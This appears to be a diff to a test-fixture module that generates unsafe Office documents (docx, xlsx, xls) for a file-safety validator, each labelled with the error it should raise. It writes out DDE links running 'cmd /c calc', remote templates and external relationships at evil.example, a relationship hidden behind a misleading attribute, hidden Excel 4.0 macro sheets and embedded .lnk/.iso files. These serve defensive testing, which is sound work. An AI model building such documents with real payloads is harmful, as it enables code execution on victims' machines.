@@ -1,3 +1,5 @@
+import { docFile, encryptedPackage, passwordRecord, sheetRecord, xlsFile } from './oldOfficeFiles.ts';
+
 /** A file in a zip. `declaredSize`: a wrong size in its header. */
 export interface ZipPartInput {
   readonly name: string;
@@ -84,12 +86,15 @@ function joined(pieces: readonly Uint8Array[]): Uint8Array {
   return result;
 }
 
+const CRC_TABLE = Uint32Array.from({ length: 256 }, (_, byte) => {
+  let crc = byte;
+  for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
+  return crc;
+});
+
 function crc32(bytes: Uint8Array): number {
   let crc = 0xffffffff;
-  for (const byte of bytes) {
-    crc ^= byte;
-    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
-  }
+  for (const byte of bytes) crc = (crc >>> 8) ^ CRC_TABLE[(crc ^ byte) & 0xff]!;
   return (crc ^ 0xffffffff) >>> 0;
 }
 
@@ -108,10 +113,46 @@ export function relationships(
     ({ type, target, isExternal }, index) =>
       `<Relationship Id="rId${index + 1}" Type="${OFFICE}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
   );
+  return relationshipsOf(name, rows.join(''));
+}
+
+/** Returns a relationships part with this XML in it. */
+export function relationshipsOf(name: string, xml: string): ZipPartInput {
   return {
     name,
-    content: `${XML}<Relationships xmlns="${OPEN}/package/2006/relationships">${rows.join('')}</Relationships>`,
+    content: `${XML}<Relationships xmlns="${OPEN}/package/2006/relationships">${xml}</Relationships>`,
   };
+}
+
+/** Returns the parts of a workbook with a link to another program, which Excel starts (DDE), under any name. */
+export function ddeLink(name = 'xl/externalLinks/externalLink1.xml', start = ''): ZipPartInput[] {
+  return [
+    relationships('xl/_rels/workbook.xml.rels', [
+      { type: 'worksheet', target: 'worksheets/sheet1.xml' },
+      { type: 'externalLink', target: name.replace('xl/', '') },
+    ]),
+    {
+      name,
+      content: `${XML}${start}<x:externalLink xmlns:x="${OPEN}/spreadsheetml/2006/main"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>`,
+    },
+  ];
+}
+
+/** Returns the parts of a workbook with a link to another workbook. */
+export function workbookLink(target: string): ZipPartInput[] {
+  return [
+    relationships('xl/_rels/workbook.xml.rels', [
+      { type: 'worksheet', target: 'worksheets/sheet1.xml' },
+      { type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
+    ]),
+    relationships('xl/externalLinks/_rels/externalLink1.xml.rels', [
+      { type: 'externalLinkPath', target, isExternal: true },
+    ]),
+    {
+      name: 'xl/externalLinks/externalLink1.xml',
+      content: `${XML}<externalLink xmlns="${OPEN}/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="ddeLink"/></sheetNames></externalBook></externalLink>`,
+    },
+  ];
 }
 
 function contentTypes(main: string, type: string): ZipPartInput {
@@ -208,6 +249,8 @@ function programBytes(): Uint8Array {
   return bytes;
 }
 
+const NEEDS_PASSWORD = 'needs a password';
+
 /** Returns unsafe documents that look like normal ones, each with a part of its error message. */
 export async function unsafeOfficeFiles(): Promise<
   readonly {
@@ -297,6 +340,72 @@ export async function unsafeOfficeFiles(): Promise<
       why: 'another location',
     },
     {
+      what: 'an external template behind a misleading attribute',
+      name: 'letter.docx',
+      content: await docxFile([
+        relationshipsOf(
+          'word/_rels/settings.xml.rels',
+          `<Relationship Id=" Type='x/hyperlink' " Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+        ),
+      ]),
+      why: 'another location',
+    },
+    {
+      what: 'a template on a server',
+      name: 'letter.docx',
+      content: await wordDocumentThatLoads('attachedTemplate', 'file:///\\\\server\\t.dotm'),
+      why: 'another location',
+    },
+    ...(await Promise.all(
+      ['aFChunk', 'mailMergeSource', 'video', 'audio', 'frame', 'subDocument', 'font'].map(async (type) => ({
+        what: `an external relationship of type ${type}`,
+        name: 'letter.docx',
+        content: await wordDocumentThatLoads(type, 'https://evil.example/x'),
+        why: 'another location',
+      })),
+    )),
+    { what: 'a DDE link', name: 'bill.xlsx', content: await xlsxFile(ddeLink()), why: 'another location' },
+    {
+      what: 'a workbook link with a DDE target',
+      name: 'bill.xlsx',
+      content: await xlsxFile(workbookLink("cmd|'/c calc'!A1")),
+      why: 'another location',
+    },
+    {
+      what: 'an RTF document',
+      name: 'letter.docx',
+      content: await docxFile([{ name: 'word/afchunk.dat', content: '{\\rtf1 text}' }]),
+      why: 'embedded program',
+    },
+    ...(await Promise.all(
+      ['url', 'iso', 'lnk', 'img', 'vhd', 'one', 'msix', 'search-ms', 'rtf'].map(async (extension) => ({
+        what: `a .${extension} file`,
+        name: 'letter.docx',
+        content: await docxFile([{ name: `word/embeddings/a.${extension}`, content: 'x' }]),
+        why: 'embedded program',
+      })),
+    )),
+    {
+      what: 'a relationships part of unclosed elements',
+      name: 'letter.docx',
+      content: await docxFile([
+        { name: 'word/_rels/settings.xml.rels', content: '<Relationship '.repeat(9000) },
+      ]),
+      why: 'damaged',
+    },
+    {
+      what: 'a hidden Excel 4.0 macro sheet',
+      name: 'old.xls',
+      content: xlsFile([sheetRecord('macros', 2)]),
+      why: 'macros',
+    },
+    {
+      what: 'a workbook with an Excel 4.0 macro sheet',
+      name: 'letter.docx',
+      content: await oleObject(xlsFile([sheetRecord('macros')])),
+      why: 'macros',
+    },
+    {
       what: 'more than 2,000 parts',
       name: 'letter.docx',
       content: await docxFile(many),
@@ -332,6 +441,27 @@ export async function unsafeOfficeFiles(): Promise<
       content: (await docxFile()).slice(0, 800),
       why: 'damaged',
     },
-    { what: 'a password', name: 'old.xls', content: compoundFile(['EncryptedPackage']), why: 'password' },
+    { what: 'a password', name: 'letter.docx', content: encryptedPackage(), why: NEEDS_PASSWORD },
+    { what: 'a password', name: 'bill.xlsx', content: encryptedPackage(), why: NEEDS_PASSWORD },
+    {
+      what: 'the password of a newer file',
+      name: 'old.doc',
+      content: encryptedPackage(),
+      why: NEEDS_PASSWORD,
+    },
+    { what: 'a password', name: 'old.doc', content: docFile({ isEncrypted: true }), why: NEEDS_PASSWORD },
+    { what: 'a password', name: 'old.xls', content: xlsFile([passwordRecord]), why: NEEDS_PASSWORD },
+    {
+      what: 'a password of a workbook inside',
+      name: 'letter.docx',
+      content: await docxFile([{ name: 'word/embeddings/sheet.xlsx', content: encryptedPackage() }]),
+      why: NEEDS_PASSWORD,
+    },
+    {
+      what: 'an old document under the name of a newer one',
+      name: 'letter.docx',
+      content: docFile(),
+      why: 'does not match its file type',
+    },
   ];
 }
